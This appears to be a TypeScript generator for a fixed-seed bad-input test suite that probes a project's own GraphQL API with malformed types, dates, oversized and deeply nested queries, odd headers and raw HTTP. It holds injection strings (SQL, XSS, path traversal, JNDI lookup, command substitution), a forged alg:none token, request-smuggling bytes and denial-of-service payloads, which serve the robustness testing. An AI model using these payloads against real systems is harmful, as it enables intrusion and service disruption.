/**
 * The generated bad-input suite's requests: what an outsider would try against /graphql — wrong
 * types, enums and dates, sizes, nesting, aliases, batches, unicode and NUL, injection-looking
 * strings, odd headers, content types and GET. Generated from a fixed seed, so every run sends the
 * same requests and a failure can be replayed by its name.
 */
import { seededRandom } from '@cb/kit';

export type Role = 'anonymous' | 'student' | 'company' | 'staff';

export interface BadRequest {
  /** Category and a short description, e.g. `dates: startPlacement inline "2026-02-30"`. */
  name: string;
  method: 'GET' | 'POST';
  /** Appended to the /graphql URL (GET parameters). */
  search?: string;
  headers: Record<string, string>;
  body?: string;
  as: Role;
  /** Sent as raw bytes over a socket: requests no HTTP client library would send. */
  raw?: string;
}

/** Ids of real objects, so some requests get past "not found" to the checks behind it. */
export interface Known {
  assignmentId: string;
  companyId: string;
  studentId: string;
  placementId?: string;
}

/** The shared seeded generator (kit/random.ts), so the suite is the same on every run. */
const seeded = seededRandom;

const JSON_HEADERS = { 'content-type': 'application/json' };
const post = (name: string, payload: unknown, as: Role = 'anonymous', headers: Record<string, string> = JSON_HEADERS): BadRequest => ({
  name,
  method: 'POST',
  headers,
  body: typeof payload === 'string' ? payload : JSON.stringify(payload),
  as,
});
const gql = (name: string, query: string, variables?: unknown, as: Role = 'anonymous') => post(name, { query, variables }, as);

/** Values of the wrong type, or of the right type but impossible. */
const WRONG_VALUES: unknown[] = [
  '', ' ', 'abc', '1', '-1', '1.5', 'true', 'null', 'NaN', 'Infinity', '0x10', '1e309',
  0, -1, 1.5, -0.0001, 2147483648, -2147483649, 2 ** 53 /* past Number.MAX_SAFE_INTEGER */, 1e308,
  true, false, null, [], [1], ['a', 'b'], {}, { $gt: '' }, { id: 'x' },
];

/** Strings that look like attacks on something behind the API. */
export const INJECTIONS = [
  "' OR '1'='1", "'; DROP TABLE students; --", '{"$gt": ""}', '$where: 1==1', '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>', '../../../../etc/passwd', '..\\..\\windows\\win.ini', '${jndi:ldap://evil/a}',
  '{{7*7}}', '#{7*7}', '__proto__', 'constructor', 'prototype', '%00', '%s%s%s%n', '`id`', '$(id)', '| cat x',
  'a\r\nX-Injected: yes', '*', '?', '\\', '"', "'", 'null', 'undefined', 'SELECT * FROM users',
];

/** Unicode that trips naive code: NUL, lone surrogates, direction overrides, combining marks, emoji. */
export const UNICODE = [
  '\u0000', 'a\u0000b', '\u0000'.repeat(100), '\ud800', '\udfff', 'x\ud83dy', '\u202e', '\u202egnp.exe',
  '\ufeff', '\u200b\u200b', 'e\u0301'.repeat(50), '🧑‍💻'.repeat(20), 'Z̷̢̛a̸͔l̵̨g̶o̴', '\u0007\u0008\u001b[31m',
  '\uffff', '\ufffe', 'ﬀ', 'İı', 'ß'.repeat(10), '\u2028\u2029',
];

/** Every way to write a date that is not a real YYYY-MM-DD. */
export const BAD_DATES = [
  '2026-02-30', '31-12-2026', '2026-12-31T00:00:00Z', '2026-12-31T23:59:59.999+01:00', '', ' ', '2026-13-01', '2026-00-10',
  '2026-1-5', '20261231', '0000-00-00', '9999-99-99', '2026/12/31', 'tomorrow', '2026-02-29', '2026-12-31 ', '+002026-12-31',
  '1e10', '2026-12-32', '２０２６-１２-３１',
];

/** One argument (or variable) of the public API that takes a given kind of value. */
interface Slot {
  name: string;
  as: Role;
  /** The operation with `$v` where the value goes, and the variable's declared type. */
  query: string;
  type: string;
  /** The same operation with the value written inline (a GraphQL literal). */
  inline(literal: string): string;
  wrap?(value: unknown): Record<string, unknown>;
}

const slots = (k: Known): Slot[] => [
  { name: 'assignment(id)', as: 'anonymous', type: 'ID!', query: 'query($v: ID!) { assignment(id: $v) { id } }', inline: (l) => `{ assignment(id: ${l}) { id } }` },
  { name: 'company(id)', as: 'anonymous', type: 'ID!', query: 'query($v: ID!) { company(id: $v) { id } }', inline: (l) => `{ company(id: ${l}) { id } }` },
  { name: 'searchAssignments(page)', as: 'anonymous', type: 'Int', query: 'query($v: Int) { searchAssignments(page: $v) { total } }', inline: (l) => `{ searchAssignments(page: ${l}) { total } }` },
  { name: 'searchAssignments(pageSize)', as: 'anonymous', type: 'Int', query: 'query($v: Int) { searchAssignments(pageSize: $v) { total } }', inline: (l) => `{ searchAssignments(pageSize: ${l}) { total } }` },
  { name: 'searchAssignments(query)', as: 'anonymous', type: 'String', query: 'query($v: String) { searchAssignments(query: $v) { total } }', inline: (l) => `{ searchAssignments(query: ${l}) { total } }` },
  { name: 'filter.minHours', as: 'anonymous', type: 'Int', query: 'query($v: Int) { searchAssignments(filter: { minHours: $v }) { total } }', inline: (l) => `{ searchAssignments(filter: { minHours: ${l} }) { total } }` },
  { name: 'filter.hasPlacesLeft', as: 'anonymous', type: 'Boolean', query: 'query($v: Boolean) { searchAssignments(filter: { hasPlacesLeft: $v }) { total } }', inline: (l) => `{ searchAssignments(filter: { hasPlacesLeft: ${l} }) { total } }` },
  { name: 'skills(query)', as: 'anonymous', type: 'String!', query: 'query($v: String!) { skills(query: $v) { id } }', inline: (l) => `{ skills(query: ${l}) { id } }` },
  { name: 'skills(limit)', as: 'anonymous', type: 'Int', query: 'query($v: Int) { skills(query: "java", limit: $v) { id } }', inline: (l) => `{ skills(query: "java", limit: ${l}) { id } }` },
  { name: 'Company.assignments(pageSize)', as: 'anonymous', type: 'Int', query: `query($v: Int) { company(id: "${k.companyId}") { assignments(pageSize: $v) { id } } }`, inline: (l) => `{ company(id: "${k.companyId}") { assignments(pageSize: ${l}) { id } } }` },
  { name: 'placementProgress(year)', as: 'staff', type: 'Int', query: 'query($v: Int) { placementProgress(year: $v) { count } }', inline: (l) => `{ placementProgress(year: ${l}) { count } }` },
  { name: 'recommendAssignments(limit)', as: 'student', type: 'Int', query: `query($v: Int) { recommendAssignments(studentId: "${k.studentId}", limit: $v) { score } }`, inline: (l) => `{ recommendAssignments(studentId: "${k.studentId}", limit: ${l}) { score } }` },
  { name: 'student(id)', as: 'staff', type: 'ID!', query: 'query($v: ID!) { student(id: $v) { id } }', inline: (l) => `{ student(id: ${l}) { id } }` },
  { name: 'apply(motivation)', as: 'student', type: 'String!', query: `mutation($v: String!) { apply(assignmentId: "${k.assignmentId}x", motivation: $v) { id } }`, inline: (l) => `mutation { apply(assignmentId: "${k.assignmentId}x", motivation: ${l}) { id } }` },
];

/** A JS value as a GraphQL literal where it has one; otherwise something that is not valid syntax for it. */
function literal(value: unknown): string {
  if (value === null) return 'null';
  if (typeof value === 'string') return JSON.stringify(value);
  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
  if (Array.isArray(value)) return `[${value.map(literal).join(', ')}]`;
  return `{ ${Object.entries(value as Record<string, unknown>).map(([key, v]) => `${key.replace(/\W/g, '_') || 'x'}: ${literal(v)}`).join(', ')} }`;
}

const ENUM_SLOTS = [
  ['sectors', 'Sector'],
  ['types', 'AssignmentType'],
  ['levels', 'StudyLevel'],
  ['workModes', 'WorkMode'],
] as const;
const BAD_ENUMS: unknown[] = ['SPACE', 'ict', 'Ict', '', 'ICT ', 0, 1, true, null, ['ICT'], { ICT: true }, 'ICT,HEALTHCARE', '__proto__', 'ONLINE'];

/** A registration that is valid but for the fields under test. */
const student = (overrides: Record<string, unknown>) => ({ name: 'Sam', email: 'sam@example.nl', password: 'long-enough-password', institutionId: 'hogeschool-rotterdam', programmeId: 'hr-hbo-ict', level: 'BACHELOR', studyYear: 3, ...overrides });

function assignmentInput(overrides: Record<string, unknown>) {
  return { title: 'Een opdracht', description: 'A long enough description of the work.', type: 'PROJECT', levels: ['BACHELOR'], periodStart: '2027-01-01', periodEnd: '2027-03-01', hoursPerWeek: 20, ...overrides };
}

/** Every request of the suite, the same list on every run. */
export function generateBadRequests(k: Known): BadRequest[] {
  const random = seeded(20261201);
  const out: BadRequest[] = [];

  // ── types: every wrong value in every slot, as a variable and inline ───────────────────────
  for (const slot of slots(k)) {
    for (const value of WRONG_VALUES) {
      out.push(gql(`types: ${slot.name} variable ${JSON.stringify(value)}`, slot.query, { v: value }, slot.as));
      out.push(gql(`types: ${slot.name} inline ${literal(value)}`, slot.inline(literal(value)), undefined, slot.as));
    }
  }

  // ── enums ───────────────────────────────────────────────────────────────────────────────────
  for (const [field, type] of ENUM_SLOTS) {
    for (const value of BAD_ENUMS) {
      out.push(gql(`enums: filter.${field} variable ${JSON.stringify(value)}`, `query($v: [${type}!]) { searchAssignments(filter: { ${field}: $v }) { total } }`, { v: value }));
      out.push(gql(`enums: filter.${field} inline ${literal(value)}`, `{ searchAssignments(filter: { ${field}: [${literal(value)}] }) { total } }`));
    }
  }
  for (const value of BAD_ENUMS) {
    out.push(gql(`enums: sort variable ${JSON.stringify(value)}`, 'query($v: AssignmentSort) { searchAssignments(sort: $v) { total } }', { v: value }));
    out.push(gql(`enums: moveApplication(status) ${JSON.stringify(value)}`, 'mutation($v: ApplicationStatus!) { moveApplication(id: "app_x", status: $v) { id } }', { v: value }, 'company'));
  }

  // ── dates: every bad form in every LocalDate, as a variable and inline ──────────────────────
  for (const date of BAD_DATES) {
    out.push(gql(`dates: filter.from variable ${JSON.stringify(date)}`, 'query($v: LocalDate) { searchAssignments(filter: { from: $v }) { total } }', { v: date }));
    out.push(gql(`dates: filter.until inline ${JSON.stringify(date)}`, `{ searchAssignments(filter: { until: ${JSON.stringify(date)} }) { total } }`));
    out.push(gql(`dates: createAssignment periodStart variable ${JSON.stringify(date)}`, 'mutation($i: AssignmentInput!) { createAssignment(input: $i) { id } }', { i: assignmentInput({ periodStart: date }) }, 'company'));
    out.push(gql(`dates: createAssignment applicationDeadline inline ${JSON.stringify(date)}`, `mutation { createAssignment(input: { title: "Een opdracht", description: "A long enough description of the work.", type: PROJECT, levels: [BACHELOR], periodStart: "2027-01-01", periodEnd: "2027-03-01", hoursPerWeek: 20, applicationDeadline: ${JSON.stringify(date)} }) { id } }`, undefined, 'company'));
    out.push(gql(`dates: startPlacement(startDate) variable ${JSON.stringify(date)}`, 'mutation($id: ID!, $d: LocalDate) { startPlacement(id: $id, startDate: $d) { id } }', { id: k.placementId ?? 'plc_x', d: date }, 'company'));
    out.push(gql(`dates: completePlacement(endDate) inline ${JSON.stringify(date)}`, `mutation { completePlacement(id: "${k.placementId ?? 'plc_x'}", endDate: ${JSON.stringify(date)}) { id } }`, undefined, 'company'));
  }

  // ── sizes ───────────────────────────────────────────────────────────────────────────────────
  for (const length of [161, 300, 5_001, 20_000, 200_000]) {
    const long = 'x'.repeat(length);
    out.push(gql(`sizes: search query of ${length}`, 'query($v: String) { searchAssignments(query: $v) { total } }', { v: long }));
    out.push(gql(`sizes: createAssignment title of ${length}`, 'mutation($i: AssignmentInput!) { createAssignment(input: $i) { id } }', { i: assignmentInput({ title: long }) }, 'company'));
    out.push(gql(`sizes: registerStudent name of ${length}`, 'mutation($i: RegisterStudentInput!) { registerStudent(input: $i) { id } }', { i: student({ name: long }) }));
    out.push(gql(`sizes: motivation of ${length}`, 'mutation($v: String!) { apply(assignmentId: "asg_x", motivation: $v) { id } }', { v: long }, 'student'));
  }
  out.push(post('sizes: body of 300 KB', { query: '{ me { role } }', variables: { pad: 'x'.repeat(300 * 1024) } }));
  out.push(post('sizes: body of 2 MB', { query: '{ me { role } }', variables: { pad: 'x'.repeat(2 * 1024 * 1024) } }));
  out.push(post('sizes: 30,000 variables', { query: '{ me { role } }', variables: Object.fromEntries(Array.from({ length: 30_000 }, (_, i) => [`v${i}`, i])) }));
  out.push(post('sizes: 250 KB of spaces in the query', { query: `{ me { role } ${' '.repeat(250 * 1024)}}` }));
  out.push(post('sizes: 2,000 comments', { query: `{ me { role } ${'#c\n'.repeat(2000)}}` }));

  // ── nesting ─────────────────────────────────────────────────────────────────────────────────
  for (const levels of [13, 20, 30, 100, 1_000, 5_000, 20_000]) {
    out.push(gql(`nesting: ${levels} selection levels`, `query { me ${'{ role '.repeat(levels)}${'}'.repeat(levels)} }`));
    out.push(gql(`nesting: ${levels} braces`, '{'.repeat(levels) + '}'.repeat(levels)));
    out.push(gql(`nesting: ${levels} list brackets in an argument`, `{ searchAssignments(query: ${'['.repeat(levels)}"x"${']'.repeat(levels)}) { total } }`));
    out.push(gql(`nesting: ${levels} input objects in an argument`, `{ searchAssignments(filter: ${'{ a: '.repeat(levels)}1${' }'.repeat(levels)}) { total } }`));
    out.push(gql(`nesting: ${levels} parentheses`, `{ me${'('.repeat(levels)}${')'.repeat(levels)} { role } }`));
    // (JSON.stringify itself overflows the test's stack beyond ~1,000 levels.)
    out.push(gql(`nesting: ${Math.min(levels, 1000)} nested lists in a variable`, 'query($v: [Sector!]) { searchAssignments(filter: { sectors: $v }) { total } }', { v: JSON.parse('['.repeat(Math.min(levels, 1000)) + ']'.repeat(Math.min(levels, 1000))) }));
  }
  const nestedCompany = (levels: number) => `{ company(id: "${k.companyId}") { ${'assignments { company { '.repeat(levels)}name${' } }'.repeat(levels)} } }`;
  for (const levels of [2, 3, 4, 6, 10]) out.push(gql(`nesting: company.assignments.company × ${levels}`, nestedCompany(levels)));
  const fragmentLoop = 'query { me { ...A } } fragment A on Viewer { ...B } fragment B on Viewer { ...A }';
  out.push(gql('nesting: fragments spreading each other', fragmentLoop));
  out.push(gql('nesting: a fragment spreading itself', 'query { me { ...A } } fragment A on Viewer { role ...A }'));

  // ── aliases and root fields ─────────────────────────────────────────────────────────────────
  for (const count of [101, 150, 300, 1_000]) {
    out.push(gql(`aliases: ${count} aliases of assignment`, `{ ${Array.from({ length: count }, (_, i) => `a${i}: assignment(id: "${k.assignmentId}") { company { name } placesLeft }`).join(' ')} }`));
    out.push(gql(`aliases: ${count} short aliases`, `{ me { ${Array.from({ length: count }, (_, i) => `r${i}: role`).join(' ')} } }`));
    out.push(gql(`aliases: ${count} root fields`, `{ ${Array.from({ length: count }, () => '__typename').join(' ')} }`));
  }
  for (const count of [11, 20, 50]) {
    out.push(gql(`root fields: ${count} different searches`, `{ ${Array.from({ length: count }, (_, i) => `s${i}: searchAssignments(query: "q${i}") { total }`).join(' ')} }`));
  }
  out.push(gql('cost: 100 hits with 100 skills each', `{ searchAssignments(pageSize: 100) { hits { assignment { company { assignments(pageSize: 100) { id requiredSkills { level } } } } } } }`));

  // ── batches ─────────────────────────────────────────────────────────────────────────────────
  for (const size of [0, 1, 2, 10, 100, 1_000]) {
    out.push(post(`batches: ${size} operations`, Array.from({ length: size }, () => ({ query: '{ me { role } }' }))));
  }
  out.push(post('batches: nested arrays', [[{ query: '{ me { role } }' }]]));
  out.push(post('batches: mixed', [{ query: '{ me { role } }' }, 'x', null, 1]));

  // ── unicode, NUL and injection-looking strings in every string-taking place ─────────────────
  for (const text of [...UNICODE, ...INJECTIONS]) {
    const shown = JSON.stringify(text).slice(0, 40);
    out.push(gql(`strings: search ${shown}`, 'query($v: String) { searchAssignments(query: $v) { total } }', { v: text }));
    out.push(gql(`strings: assignment id ${shown}`, 'query($v: ID!) { assignment(id: $v) { id } }', { v: text }));
    out.push(gql(`strings: signIn ${shown}`, 'mutation($e: String!, $p: String!) { signIn(email: $e, password: $p) { token } }', { e: text, p: text }));
    out.push(gql(`strings: registerStudent ${shown}`, 'mutation($i: RegisterStudentInput!) { registerStudent(input: $i) { id } }', { i: student({ name: text, email: text, password: text }) }));
    out.push(gql(`strings: skills ${shown}`, 'query($v: String!) { skills(query: $v) { id } }', { v: text }));
    out.push(post(`strings: operationName ${shown}`, { query: 'query A { me { role } }', operationName: text }));
    out.push(gql(`strings: inline in the document ${shown}`, `{ searchAssignments(query: ${JSON.stringify(text)}) { total } }`));
    out.push(gql(`strings: raw in the document ${shown}`, `{ searchAssignments(query: "${text}") { total } }`));
  }
  out.push(post('strings: NUL in the JSON body', '{"query":"{ me { role } }\u0000"}'));
  out.push(post('strings: lone surrogate escaped in JSON', '{"query":"{ searchAssignments(query: \\"\\ud800\\") { total } }"}'));
  out.push(post('strings: invalid UTF-8 bytes', Buffer.from([0x7b, 0x22, 0x71, 0x75, 0x65, 0x72, 0x79, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]).toString('latin1')));
  out.push(post('strings: __proto__ as variables', '{"query":"query($v: String) { searchAssignments(query: $v) { total } }","variables":{"__proto__":{"v":"x"}}}'));
  out.push(post('strings: constructor in extensions', '{"query":"{ me { role } }","extensions":{"constructor":{"prototype":{"x":1}}}}'));

  // ── empty and blank ids ─────────────────────────────────────────────────────────────────────
  for (const id of ['', ' ', '\t', '   \n']) {
    const shown = JSON.stringify(id);
    out.push(gql(`ids: eraseStudent(id: ${shown})`, `mutation { eraseStudent(id: ${shown}) { erasedAt } }`, undefined, 'staff'));
    out.push(gql(`ids: assignment(id: ${shown})`, `{ assignment(id: ${shown}) { id } }`));
    out.push(gql(`ids: company(id: ${shown}) variable`, 'query($v: ID!) { company(id: $v) { id } }', { v: id }));
    out.push(gql(`ids: apply(assignmentId: ${shown})`, 'mutation($v: ID!) { apply(assignmentId: $v, motivation: "Ik wil graag.") { id } }', { v: id }, 'student'));
    out.push(gql(`ids: approveCompany(id: ${shown})`, `mutation { approveCompany(id: ${shown}) { id } }`, undefined, 'staff'));
    out.push(gql(`ids: publishAssignment(id: ${shown})`, `mutation { publishAssignment(id: ${shown}) { id } }`, undefined, 'company'));
    out.push(gql(`ids: acceptOffer(applicationId: ${shown})`, `mutation { acceptOffer(applicationId: ${shown}) { id } }`, undefined, 'student'));
    out.push(gql(`ids: matchFor(studentId: ${shown})`, `{ assignment(id: "${k.assignmentId}") { matchFor(studentId: ${shown}) { score } } }`, undefined, 'student'));
  }

  // ── operation selection, subscriptions, persisted queries ──────────────────────────────────
  out.push(gql('operations: two without operationName', 'query A { me { role } } query B { me { role } }'));
  out.push(post('operations: unknown operationName', { query: 'query A { me { role } }', operationName: 'C' }));
  out.push(post('operations: operationName for an anonymous operation', { query: '{ me { role } }', operationName: 'A' }));
  out.push(post('operations: operationName of a fragment', { query: 'query A { me { ...F } } fragment F on Viewer { role }', operationName: 'F' }));
  out.push(gql('operations: only a fragment', 'fragment F on Viewer { role }'));
  out.push(gql('operations: a subscription', 'subscription { me { role } }'));
  out.push(gql('operations: a named subscription', 'subscription Watch { assignment(id: "x") { id } }'));
  out.push(gql('operations: a mutation and a query without operationName', 'mutation M { signIn(email: "a@b.nl", password: "x") { token } } query Q { me { role } }'));
  out.push(gql('operations: the empty document', ''));
  out.push(gql('operations: only whitespace', '   \n\t '));
  out.push(gql('operations: only a comment', '# nothing here'));
  out.push(gql('operations: schema definition', 'type Query { x: Int }'));
  out.push(gql('operations: unknown directive', '{ me @evil { role } }'));
  out.push(gql('operations: @include with a bad argument', '{ me @include(if: "yes") { role } }'));
  out.push(gql('operations: introspection of a private type', '{ __type(name: "CompanyPrincipal") { name fields { name } } }'));
  out.push(gql('operations: an internal field', '{ _verifyCompanyCredentials(email: "a@b.nl", password: "x") { accountId } }'));
  out.push(gql('operations: the federation _entities field', '{ _entities(representations: [{ __typename: "Student", id: "x" }]) { __typename } }'));
  out.push(gql('operations: the federation _service field', '{ _service { sdl } }'));
  for (const persistedQuery of ['garbage', 1, null, [], {}, { version: 1 }, { version: 2, sha256Hash: 'x' }, { version: 1, sha256Hash: 'x'.repeat(64) }, { version: 'one', sha256Hash: 1 }]) {
    out.push(post(`persisted query: ${JSON.stringify(persistedQuery)} without a query`, { extensions: { persistedQuery } }));
    out.push(post(`persisted query: ${JSON.stringify(persistedQuery)} beside a query`, { query: '{ me { role } }', extensions: { persistedQuery } }));
  }

  // ── bodies that are not a GraphQL request ───────────────────────────────────────────────────
  const bodies = ['', '{', '{"query":', 'null', '1', '"a string"', 'true', '[]', '{}', '{"query": 1}', '{"query": null}', '{"query": ["{ me { role } }"]}', '{"query": {"a": 1}}', '{"query": "{ me { role } }", "variables": "x"}', '{"query": "{ me { role } }", "variables": []}', '{"query": "{ me { role } }", "variables": 5}', '{"query": "{ me { role } }", "operationName": 5}', '{"query": "{ me { role } }", "extensions": "x"}', '{"query": "{ me { role } }", "extensions": []}', '{"query": "{ me { role } }"} trailing', '{"query": "{ me { role } }", "query": "{ x }"}', '\ufeff{"query": "{ me { role } }"}', '{"query": "{ me { role }"}', '{"query": "{ me { role } } }"}', '{"query": "query ($v: Nope) { me { role } }"}', '{"query": "query ($v: Int = \\"x\\") { me { role } }"}'];
  for (const body of bodies) out.push(post(`bodies: ${JSON.stringify(body).slice(0, 50)}`, body));

  // ── content types ───────────────────────────────────────────────────────────────────────────
  const query = JSON.stringify({ query: '{ me { role } }' });
  for (const contentType of ['text/plain', 'application/xml', 'multipart/form-data; boundary=x', 'application/x-www-form-urlencoded', 'application/graphql', 'application/json; charset=latin1', 'application/json; charset=utf-16', 'application/graphql-response+json', 'application/octet-stream', 'image/png', '*/*', ';;;', 'application/json, text/plain', 'APPLICATION/JSON', 'application/jsonx']) {
    out.push(post(`content types: ${contentType}`, query, 'anonymous', { 'content-type': contentType }));
    out.push(post(`content types: ${contentType} with preflight header`, query, 'anonymous', { 'content-type': contentType, 'apollo-require-preflight': 'true' }));
  }
  out.push(post('content types: none', query, 'anonymous', {}));
  out.push(post('content types: form body', 'query=%7B+me+%7B+role+%7D+%7D', 'anonymous', { 'content-type': 'application/x-www-form-urlencoded' }));
  out.push(post('content types: gzip claimed, plain sent', query, 'anonymous', { ...JSON_HEADERS, 'content-encoding': 'gzip' }));
  out.push(post('content types: unknown encoding', query, 'anonymous', { ...JSON_HEADERS, 'content-encoding': 'br2' }));

  // ── headers ─────────────────────────────────────────────────────────────────────────────────
  const authorizations = ['Bearer', 'Bearer ', 'Bearer x', 'Bearer x.y.z', 'Bearer eyJhbGciOiJub25lIn0.eyJyb2xlIjoiU1RBRkYifQ.', 'Basic YTpi', 'bearer abc', 'Bearer ' + 'a'.repeat(8000), 'Token abc', '\u00ff\u00fe', 'Bearer null', 'Bearer undefined', 'Bearer {}'];
  for (const authorization of authorizations) {
    out.push(post(`headers: authorization ${JSON.stringify(authorization).slice(0, 40)}`, query, 'anonymous', { ...JSON_HEADERS, authorization }));
    out.push(post(`headers: authorization ${JSON.stringify(authorization).slice(0, 40)} on a mutation`, { query: 'mutation { publishAssignment(id: "asg_x") { id } }' }, 'anonymous', { ...JSON_HEADERS, authorization }));
  }
  for (const language of ['', '*', 'xx', 'nl;q=abc', 'en-US,en;q=0.9,' + 'x;q=0.1,'.repeat(500), '\u00ff', '../../etc']) {
    out.push(post(`headers: accept-language ${JSON.stringify(language).slice(0, 40)}`, { query: '{ skills(query: "java") { id } }' }, 'anonymous', { ...JSON_HEADERS, 'accept-language': language }));
  }
  for (const accept of ['text/html', 'application/xml', 'multipart/mixed', 'application/graphql-response+json', 'nothing/at-all', '']) {
    out.push(post(`headers: accept ${JSON.stringify(accept)}`, query, 'anonymous', { ...JSON_HEADERS, accept }));
  }
  out.push(post('headers: a wrong trusted-client key', { query: `{ ${Array.from({ length: 150 }, (_, i) => `a${i}: __typename`).join(' ')} }` }, 'anonymous', { ...JSON_HEADERS, 'x-cb-trusted-client': 'guess' }));
  for (const size of [17 * 1024, 20 * 1024, 64 * 1024]) {
    out.push(post(`headers: one header of ${size / 1024} KB`, query, 'anonymous', { ...JSON_HEADERS, 'x-pad': 'x'.repeat(size) }));
  }
  out.push(post('headers: 500 small headers', query, 'anonymous', { ...JSON_HEADERS, ...Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`x-h${i}`, 'v'])) }));

  // ── GET ─────────────────────────────────────────────────────────────────────────────────────
  const get = (name: string, search: string, headers: Record<string, string> = { 'apollo-require-preflight': 'true' }): BadRequest => ({ name, method: 'GET', search, headers, as: 'anonymous' });
  out.push(get('GET: no query', ''));
  out.push(get('GET: no query from a browser', '', { accept: 'text/html' }));
  out.push(get('GET: a mutation', `?query=${encodeURIComponent('mutation { signIn(email: "a@b.nl", password: "x") { token } }')}`));
  out.push(get('GET: without the CSRF preflight header', `?query=${encodeURIComponent('{ me { role } }')}`, {}));
  out.push(get('GET: variables that are not JSON', `?query=${encodeURIComponent('query($v: String) { skills(query: $v) { id } }')}&variables=notjson`));
  out.push(get('GET: extensions that are not JSON', `?query=${encodeURIComponent('{ me { role } }')}&extensions={`));
  out.push(get('GET: query given twice', '?query=a&query=b'));
  out.push(get('GET: a persisted query hash only', `?extensions=${encodeURIComponent(JSON.stringify({ persistedQuery: { version: 1, sha256Hash: 'a'.repeat(64) } }))}`));
  out.push(get('GET: 5,000 nested braces', `?query=${'{'.repeat(5000)}${'}'.repeat(5000)}`));
  out.push(get('GET: 1,000 aliases', `?query=${encodeURIComponent(`{ ${Array.from({ length: 1000 }, (_, i) => `a${i}: __typename`).join(' ')} }`)}`));
  for (const kb of [17, 50, 100, 500]) out.push(get(`GET: a URL of ${kb} KB`, `?query=${'x'.repeat(kb * 1024)}`));
  out.push(get('GET: broken percent-encoding', '?query=%E0%A4%A'));
  out.push(get('GET: NUL in the URL', '?query=%00'));
  for (const text of INJECTIONS.slice(0, 10)) out.push(get(`GET: injection ${JSON.stringify(text).slice(0, 30)}`, `?query=${encodeURIComponent(`{ searchAssignments(query: ${JSON.stringify(text)}) { total } }`)}`));

  // ── raw HTTP that no client library sends ───────────────────────────────────────────────────
  const raw = (name: string, bytes: string): BadRequest => ({ name, method: 'POST', headers: {}, as: 'anonymous', raw: bytes });
  out.push(raw('raw: garbage request line', 'HELLO WORLD\r\n\r\n'));
  out.push(raw('raw: header without a colon', 'POST /graphql HTTP/1.1\r\nHost: x\r\nbroken header\r\n\r\n'));
  out.push(raw('raw: content-length smaller than the body', 'POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{"query":"{ me { role } }"}'));
  out.push(raw('raw: two content-lengths', 'POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}'));
  out.push(raw('raw: invalid chunked encoding', 'POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n'));
  out.push(raw('raw: a header of 20 KB', `GET /graphql HTTP/1.1\r\nHost: x\r\nX-Pad: ${'x'.repeat(20 * 1024)}\r\n\r\n`));

  // ── random mixes of the above: shuffled fields of a valid search, seeded ────────────────────
  const fields = ['total', 'page', 'pageSize', 'hits { score }', 'facets { sector { value count } }', 'hits { assignment { title } }', 'nope', '__typename', 'hits { highlights { snippet } }'];
  for (let i = 0; i < 200; i++) {
    const chosen = Array.from({ length: random.int(1, 5) }, () => random.pick(fields)).join(' ');
    const args = random.pick(['', `(page: ${random.int(-5, 1e6)})`, `(pageSize: ${random.int(-5, 500)})`, `(query: ${JSON.stringify(random.pick([...UNICODE, ...INJECTIONS]))})`, `(sort: ${random.pick(['NEWEST', 'OLDEST', '1', '"NEWEST"'])})`]);
    out.push(gql(`mixed #${out.length}: searchAssignments${args} { ${chosen} }`, `{ searchAssignments${args} { ${chosen} } }`));
  }
  return out;
}
